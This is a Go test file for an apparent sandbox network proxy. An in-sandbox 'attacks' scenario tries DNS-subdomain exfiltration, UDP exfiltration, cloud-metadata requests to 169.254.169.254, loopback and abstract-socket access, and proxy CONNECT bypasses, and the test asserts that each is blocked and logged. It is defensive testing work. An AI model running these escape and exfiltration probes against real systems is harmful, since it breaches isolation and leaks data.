package netproxy_test

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/airlock-sandbox/airlock/internal/netns"
	"github.com/airlock-sandbox/airlock/internal/netns/netnstest"
	"github.com/airlock-sandbox/airlock/internal/netproxy"
)

func TestMain(m *testing.M) {
	netnstest.Register("attacks", attackScenario)
	netnstest.Register("forward", forwardScenario)
	netnstest.Dispatch()
	benchPeer()
	os.Exit(m.Run())
}

// stubResolver is the broker's "internet DNS": a fixed table that records
// every name it was asked for.
type stubResolver struct {
	mu    sync.Mutex
	table map[string][]netip.Addr
	asked []string
}

func (r *stubResolver) LookupNetIP(ctx context.Context, network, host string) ([]netip.Addr, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.asked = append(r.asked, host)
	if a, ok := r.table[host]; ok {
		return a, nil
	}
	return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
}

// countingServer is a TCP server that answers one line and counts accepts.
type countingServer struct {
	ln       net.Listener
	accepted atomic.Int32
}

func newCountingServer(t *testing.T, addr, tag string) *countingServer {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		t.Skipf("host feature missing: cannot listen on %s: %v", addr, err)
	}
	s := &countingServer{ln: ln}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			s.accepted.Add(1)
			go func() {
				defer c.Close()
				line, _ := bufio.NewReader(c).ReadString('\n')
				fmt.Fprintf(c, "%s: %s", tag, line)
			}()
		}
	}()
	return s
}

func (s *countingServer) port() int { return s.ln.Addr().(*net.TCPAddr).Port }

type outcome struct {
	Reply string `json:"reply,omitempty"`
	Err   string `json:"err,omitempty"`
	Reset bool   `json:"reset,omitempty"` // refused or reset, not a timeout
}

type attackResult struct {
	Fake4, Fake6, DeniedLookup, ExfilLookup string
	TCPLookup, TCPExfilLookup               string
	Interfaces                              []string
	AbstractErr                             string
	Steps                                   map[string]outcome
}

// attackScenario runs inside the sandbox as an ordinary program that ignores
// proxy variables: its own resolver and raw connects.
func attackScenario() any {
	allowedPort, deniedPort, webPort := os.Getenv("ALLOWED_PORT"), os.Getenv("DENIED_PORT"), os.Getenv("WEB_PORT")
	res := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
		// Any server on port 53 is redirected to the stub.
		return (&net.Dialer{}).DialContext(ctx, "udp", "192.0.2.53:53")
	}}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	r := attackResult{Steps: map[string]outcome{}}
	lookup := func(network, name string) string {
		a, err := res.LookupNetIP(ctx, network, name)
		if err != nil {
			var de *net.DNSError
			if errors.As(err, &de) && de.IsNotFound {
				return "NXDOMAIN"
			}
			return "error: " + err.Error()
		}
		return a[0].String()
	}
	r.Fake4 = lookup("ip4", "allowed.test")
	r.Fake6 = lookup("ip6", "allowed.test")
	r.DeniedLookup = lookup("ip4", "denied.test")
	r.ExfilLookup = lookup("ip4", "6f70656e20736573616d65.exfil.test")
	res = &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, "tcp", "192.0.2.53:53") // DNS over TCP
	}}
	r.TCPLookup = lookup("ip4", "allowed.test")
	r.TCPExfilLookup = lookup("ip4", "74637065786669.exfil.test")
	metaFake := lookup("ip4", "meta.test")
	loopFake := lookup("ip4", "loop.test")

	say := func(addr, msg string) outcome {
		c, err := net.DialTimeout("tcp", addr, 5*time.Second)
		if err != nil {
			return outcome{Err: err.Error(), Reset: isRefused(err)}
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(5 * time.Second))
		fmt.Fprint(c, msg)
		line, err := bufio.NewReader(c).ReadString('\n')
		if err != nil {
			return outcome{Err: err.Error(), Reset: isRefused(err)}
		}
		return outcome{Reply: line}
	}
	talk := func(addr string) outcome { return say(addr, "hello\n") }
	ifs, _ := net.Interfaces()
	for _, i := range ifs {
		r.Interfaces = append(r.Interfaces, i.Name)
	}
	// D1: abstract unix sockets belong to the network namespace.
	if c, err := net.Dial("unix", "@"+os.Getenv("ABSTRACT")); err != nil {
		r.AbstractErr = err.Error()
	} else {
		c.Close()
	}
	if u, err := net.Dial("udp", "192.0.2.9:9999"); err == nil {
		u.Write([]byte("exfil over udp"))
		u.Close()
	}
	r.Steps["fake4"] = talk(net.JoinHostPort(r.Fake4, allowedPort))
	r.Steps["fake6"] = talk(net.JoinHostPort(r.Fake6, allowedPort))
	r.Steps["hostLoopback"] = talk("127.0.0.1:" + allowedPort)
	r.Steps["hostLoopback2"] = talk("127.0.0.2:" + deniedPort)
	r.Steps["literalIP"] = talk("192.0.2.77:" + deniedPort)
	r.Steps["literalIPv6"] = talk("[2001:db8::77]:" + deniedPort)
	r.Steps["metadata"] = talk("169.254.169.254:80")
	// Port 80 carries HTTP: the request must parse before the name is tried.
	r.Steps["metaName"] = say(net.JoinHostPort(metaFake, "80"), "GET /latest/meta-data/ HTTP/1.0\r\nHost: meta.test\r\n\r\n")
	r.Steps["loopName"] = talk(net.JoinHostPort(loopFake, deniedPort))
	r.Steps["unknownFake"] = talk("198.18.200.1:" + allowedPort)
	r.Steps["allowedWrongPort"] = talk(net.JoinHostPort(r.Fake4, "1"))
	r.Steps["captureDirect"] = talk(fmt.Sprintf("127.0.0.1:%d", netns.DefaultCapturePort))

	// Proxy-aware path: CONNECT through the HTTP proxy.
	connect := func(target string) outcome {
		c, err := net.DialTimeout("tcp", fmt.Sprintf("127.0.0.1:%d", netns.DefaultHTTPPort), 5*time.Second)
		if err != nil {
			return outcome{Err: err.Error()}
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(5 * time.Second))
		fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target)
		br := bufio.NewReader(c)
		resp, err := http.ReadResponse(br, nil)
		if err != nil {
			return outcome{Err: err.Error()}
		}
		if resp.StatusCode != 200 {
			return outcome{Err: resp.Status}
		}
		fmt.Fprintf(c, "hello\n")
		line, err := br.ReadString('\n')
		if err != nil {
			return outcome{Err: err.Error()}
		}
		return outcome{Reply: line}
	}
	r.Steps["connectAllowed"] = connect("allowed.test:" + allowedPort)
	r.Steps["connectDenied"] = connect("denied.test:" + deniedPort)
	r.Steps["connectMeta"] = connect("169.254.169.254:80")

	proxyURL, _ := url.Parse(fmt.Sprintf("http://127.0.0.1:%d", netns.DefaultHTTPPort))
	hc := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{Proxy: http.ProxyURL(proxyURL)}}
	get := func(u string) outcome {
		resp, err := hc.Get(u)
		if err != nil {
			return outcome{Err: err.Error()}
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != 200 {
			return outcome{Err: resp.Status + " " + string(b)}
		}
		return outcome{Reply: string(b)}
	}
	r.Steps["httpAllowed"] = get("http://web.test:" + webPort + "/page")
	r.Steps["httpDenied"] = get("http://denied.test:" + deniedPort + "/")
	return r
}

func isRefused(err error) bool {
	return errors.Is(err, syscall.ECONNREFUSED) || errors.Is(err, syscall.ECONNRESET) || errors.Is(err, io.EOF)
}

func TestLiveEgressPolicy(t *testing.T) {
	allowed := newCountingServer(t, "127.0.0.1:0", "allowed-server")
	denied := newCountingServer(t, "127.0.0.2:0", "denied-server")
	var webHits atomic.Int32
	web := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		webHits.Add(1)
		fmt.Fprintf(w, "web %s host=%s", r.URL.Path, r.Host)
	}))
	defer web.Close()
	webPort := web.Listener.Addr().(*net.TCPAddr).Port

	lo := netip.MustParseAddr("127.0.0.1")
	resolver := &stubResolver{table: map[string][]netip.Addr{
		"allowed.test": {lo},
		"web.test":     {lo},
		"denied.test":  {netip.MustParseAddr("127.0.0.2")},
		"meta.test":    {netip.MustParseAddr("169.254.169.254")},
		"loop.test":    {netip.MustParseAddr("127.0.0.2")},
	}}
	var dialMu sync.Mutex
	var dialed []string
	opts := netproxy.Options{
		Resolver: resolver,
		Dial: func(ctx context.Context, network, addr string) (net.Conn, error) {
			dialMu.Lock()
			dialed = append(dialed, addr)
			dialMu.Unlock()
			return (&net.Dialer{}).DialContext(ctx, network, addr)
		},
	}
	netproxy.PermitForTest(&opts, lo)
	p, err := netproxy.New(netproxy.Policy{
		Allow: []string{fmt.Sprint("allowed.test:", allowed.port()), "web.test", "meta.test", "loop.test", "*.exfil.test", "denied.test"},
		Deny:  []string{"denied.test", "*.exfil.test"},
	}, opts)
	if err != nil {
		t.Fatal(err)
	}
	abstract := fmt.Sprintf("airlock-d1-canary-%d", os.Getpid())
	abs, err := net.Listen("unix", "@"+abstract)
	if err != nil {
		t.Fatal(err)
	}
	defer abs.Close()
	var absAccepted atomic.Int32
	go func() {
		for {
			c, err := abs.Accept()
			if err != nil {
				return
			}
			absAccepted.Add(1)
			c.Close()
		}
	}()
	l, sb := netnstest.Start(t, netns.Config{}, "attacks", "ABSTRACT="+abstract,
		fmt.Sprint("ALLOWED_PORT=", allowed.port()), fmt.Sprint("DENIED_PORT=", denied.port()), fmt.Sprint("WEB_PORT=", webPort))
	defer sb.Kill()
	if err := p.Serve(l); err != nil {
		t.Fatal(err)
	}
	var r attackResult
	sb.Wait(t, &r)
	// Drop reports arrive asynchronously; give the last one a moment.
	for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(10 * time.Millisecond) {
		if slices.ContainsFunc(p.Log(), func(c netproxy.Conn) bool { return c.Proto == "udp" }) {
			break
		}
	}
	p.Close()

	if strings.Join(r.Interfaces, ",") != "lo" {
		t.Errorf("interfaces inside the sandbox: %v, want only lo", r.Interfaces)
	}
	if r.AbstractErr == "" || absAccepted.Load() != 0 {
		t.Errorf("host abstract socket reached from the sandbox (err %q, accepted %d)", r.AbstractErr, absAccepted.Load())
	}
	if a, err := netip.ParseAddr(r.Fake4); err != nil || !netproxy.FakeNet4.Contains(a) {
		t.Errorf("allowed.test A = %q, want a synthetic IPv4 address", r.Fake4)
	}
	if a, err := netip.ParseAddr(r.Fake6); err != nil || !netproxy.FakeNet6.Contains(a) {
		t.Errorf("allowed.test AAAA = %q, want a synthetic IPv6 address", r.Fake6)
	}
	if r.DeniedLookup != "NXDOMAIN" || r.ExfilLookup != "NXDOMAIN" || r.TCPExfilLookup != "NXDOMAIN" {
		t.Errorf("denied lookups: denied.test=%q exfil=%q exfil over TCP=%q, want NXDOMAIN", r.DeniedLookup, r.ExfilLookup, r.TCPExfilLookup)
	}
	if r.TCPLookup != r.Fake4 {
		t.Errorf("DNS over TCP: allowed.test = %q, want %q as over UDP", r.TCPLookup, r.Fake4)
	}
	want := map[string]string{
		"fake4":          "allowed-server: hello\n",
		"fake6":          "allowed-server: hello\n",
		"connectAllowed": "allowed-server: hello\n",
		"httpAllowed":    fmt.Sprintf("web /page host=web.test:%d", webPort),
	}
	for step, reply := range want {
		if got := r.Steps[step]; got.Reply != reply {
			t.Errorf("%s: got %+v, want reply %q", step, got, reply)
		}
	}
	// Refused raw connects must fail fast (refused/reset), not hang.
	for _, step := range []string{"hostLoopback", "hostLoopback2", "literalIP", "literalIPv6", "metadata", "metaName", "loopName", "unknownFake", "allowedWrongPort", "captureDirect"} {
		if got := r.Steps[step]; got.Reply != "" || !got.Reset {
			t.Errorf("%s: got %+v, want refused or reset", step, got)
		}
	}
	for _, step := range []string{"connectDenied", "connectMeta", "httpDenied"} {
		if got := r.Steps[step]; got.Reply != "" || !strings.Contains(got.Err, "403") {
			t.Errorf("%s: got %+v, want 403", step, got)
		}
	}

	// The oracles, from outside the sandbox.
	if n := allowed.accepted.Load(); n != 3 {
		t.Errorf("allowed server accepted %d connections, want exactly 3 (fake4, fake6, CONNECT)", n)
	}
	if n := denied.accepted.Load(); n != 0 {
		t.Errorf("denied server (host 127.0.0.2) accepted %d connections, want 0", n)
	}
	if n := webHits.Load(); n != 1 {
		t.Errorf("web server got %d requests, want 1", n)
	}
	allowedAddr := fmt.Sprintf("127.0.0.1:%d", allowed.port())
	webAddr := fmt.Sprintf("127.0.0.1:%d", webPort)
	dialMu.Lock()
	for _, d := range dialed {
		if d != allowedAddr && d != webAddr {
			t.Errorf("broker dialled %s", d)
		}
	}
	dialMu.Unlock()
	resolver.mu.Lock()
	for _, n := range resolver.asked {
		if n != "allowed.test" && n != "web.test" && n != "meta.test" && n != "loop.test" {
			t.Errorf("upstream resolver was asked for %q", n)
		}
	}
	resolver.mu.Unlock()

	// The log has every attempt with a decision and byte counts.
	log := p.Log()
	find := func(pred func(netproxy.Conn) bool) *netproxy.Conn {
		for i := range log {
			if pred(log[i]) {
				return &log[i]
			}
		}
		return nil
	}
	if c := find(func(c netproxy.Conn) bool { return c.Proto == "tcp" && c.Name == "allowed.test" && c.Allowed }); c == nil || c.BytesOut != 6 || c.BytesIn != int64(len("allowed-server: hello\n")) {
		t.Errorf("allowed.test log entry %+v, want 6 bytes out, %d in", c, len("allowed-server: hello\n"))
	}
	for _, check := range []struct {
		what string
		pred func(netproxy.Conn) bool
	}{
		{"dns denied.test", func(c netproxy.Conn) bool { return c.Proto == "dns" && c.Name == "denied.test" && !c.Allowed }},
		{"dns exfil", func(c netproxy.Conn) bool {
			return c.Proto == "dns" && strings.HasSuffix(c.Name, ".exfil.test") && !c.Allowed
		}},
		{"literal 192.0.2.77", func(c netproxy.Conn) bool { return c.IP == "192.0.2.77" && !c.Allowed }},
		{"metadata", func(c netproxy.Conn) bool { return c.IP == "169.254.169.254" && !c.Allowed }},
		{"meta.test", func(c netproxy.Conn) bool {
			return c.Name == "meta.test" && !c.Allowed && strings.Contains(c.Reason, "link-local")
		}},
		{"loop.test", func(c netproxy.Conn) bool {
			return c.Name == "loop.test" && !c.Allowed && strings.Contains(c.Reason, "loopback")
		}},
		{"udp 192.0.2.9:9999", func(c netproxy.Conn) bool {
			return c.Proto == "udp" && c.IP == "192.0.2.9" && c.Port == 9999 && !c.Allowed
		}},
		{"CONNECT denied.test", func(c netproxy.Conn) bool { return c.Proto == "http-connect" && c.Name == "denied.test" && !c.Allowed }},
	} {
		if find(check.pred) == nil {
			t.Errorf("no log entry for %s in %+v", check.what, log)
		}
	}
}
